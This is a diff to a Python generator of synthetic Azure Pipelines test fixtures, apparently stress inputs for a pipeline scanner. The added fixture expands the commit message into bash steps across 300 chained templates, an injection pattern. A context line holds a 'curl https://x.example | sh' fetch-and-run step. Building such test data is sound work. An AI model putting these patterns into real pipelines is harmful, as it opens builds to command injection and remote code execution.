@@ -181,6 +181,15 @@ def shapes():
         templates[f't/{i}.yml'] = "steps:\n" + ''.join(f'  - template: {j}.yml\n' for j in range(0, 300, 7)) \
             + f'  - script: make t{i}\n'
     files['azure-templates-of-templates'] = templates
+    # Template parameters passed on from each of 300 templates to 40 others, the first set from the commit message.
+    passing = {'azure-pipelines.yml': "pool:\n  vmImage: ubuntu-latest\nsteps:\n  - template: p/0.yml\n"
+               "    parameters:\n      p: $(Build.SourceVersionMessage)\n"}
+    for i in range(300):
+        passing[f'p/{i}.yml'] = "parameters:\n  - name: p\n    type: string\nsteps:\n" + ''.join(
+            f"  - template: {j}.yml\n    parameters:\n      p: \"x ${{{{ parameters.p }}}}\"\n"
+            for j in range((i + 1) % 300, 300, 7)) + "  - bash: |\n" + ''.join(
+            f'      echo "{k} ${{{{ parameters.p }}}}"\n' for k in range(50))
+    files['azure-template-parameters'] = passing
     nested = ''.join('  ' * d + f'- ${{{{ if eq(parameters.p{d}, true) }}}}:\n' for d in range(200))
     files['azure-nested-expressions'] = {'azure-pipelines.yml': "steps:\n" + nested + '  ' * 200
                                          + "- script: curl https://x.example | sh\n"}
